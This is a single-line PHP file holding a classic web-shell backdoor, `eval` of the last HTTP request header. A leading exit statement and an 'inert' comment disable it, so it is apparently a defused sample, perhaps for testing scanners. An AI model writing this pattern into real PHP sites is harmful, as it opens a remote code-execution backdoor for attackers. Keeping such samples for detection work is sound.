<?php exit; /* inert */ @eval(end(getallheaders()));
